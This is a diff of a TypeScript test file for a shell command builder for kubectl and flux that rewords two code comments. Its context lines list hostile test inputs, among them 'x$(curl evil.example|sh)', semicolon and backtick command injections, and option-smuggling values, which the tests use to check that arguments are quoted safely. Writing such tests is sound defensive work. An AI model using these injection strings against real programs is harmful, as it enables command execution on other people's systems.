@@ -5,9 +5,7 @@ import { commandLine } from "../src/words/shell.js";
 import { edge, graphOf, node } from "./flow.js";
 import { Random } from "./random.js";
 
-/**
- * The arguments that a real shell passes to each program that the lines run. No other program is in PATH, so a line that runs one fails.
- */
+/** The argv of each stub that the lines run in a real shell. Nothing is in PATH, so a line that runs another program by its name fails. */
 function argvOf(lines: readonly string[]): readonly (readonly string[])[] {
   const stub = (name: string): string => `${name}() { printf '%s\\0' ${name} "$@"; printf '\\n\\0'; }`;
   const script = [stub("kubectl"), stub("flux"), stub("show"), ...lines].join("\n");
@@ -92,7 +90,7 @@ describe("commands of a hostile flow", () => {
     "cilium; id #", "x$(curl evil.example|sh)", "`id`", "a; id ~", "a' ; id ; '", 'a" ; id ; "', "a\\", "$IFS", "a && id", "a | id", "a > /dev/full", "*", "~root", "a b", "!!", "it's",
   ];
   const unsafe = ["a\nid\n", "a\u001b]0;x\u0007", "a\u009b2J", "a\u202eb", "--kubeconfig=/tmp/x", "-Axyz", "a\u2028id", "1025".repeat(257)];
-  /** Commands as an adapter sends them, with empty arguments. */
+  /** Commands as an adapter sends them. The tests replace empty arguments by a hostile text. */
   const COMMANDS = [
     ["kubectl", "-n", "", "describe", "deployment", ""],
     ["kubectl", "-n", "", "get", "helmrelease", "", "-o", "jsonpath={.spec.dependsOn}"],
